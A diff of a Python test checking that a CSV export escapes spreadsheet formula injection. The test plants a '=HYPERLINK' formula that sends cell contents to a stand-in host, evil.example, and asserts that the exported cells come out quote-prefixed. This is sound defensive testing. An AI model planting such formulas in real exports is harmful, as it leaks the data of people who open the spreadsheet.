@@ -30,7 +30,8 @@ def test_an_export_of_a_name_that_is_a_formula_is_harmless(tmp_path: Path, capsy
     people.write_text(people.read_text().replace("Ann Ash", '"=HYPERLINK(""http://evil.example/?""&A1)"'), "utf-8")
     assert main(["-w", str(root), "turn", "-q"]) == 0
     out = tmp_path / "out.csv"
-    words = ["sql", 'SELECT name, email AS "=1+1", -1 AS n FROM profiles ORDER BY person_id', "--role", "service", "--purpose", "operate"]
+    question = 'SELECT name, email AS "=1+1", -1 AS n FROM profiles ORDER BY person_id'
+    words = ["sql", question, "--role", "service", "--purpose", "operate"]
     assert main(["-w", str(root), *words, "--format", "csv", "-o", str(out), "-q"]) == 0
     rows = list(csv.reader(out.open()))
     assert rows[0][1] == "'=1+1" and rows[1][0].startswith("'=HYPERLINK") and rows[1][2] == "-1"
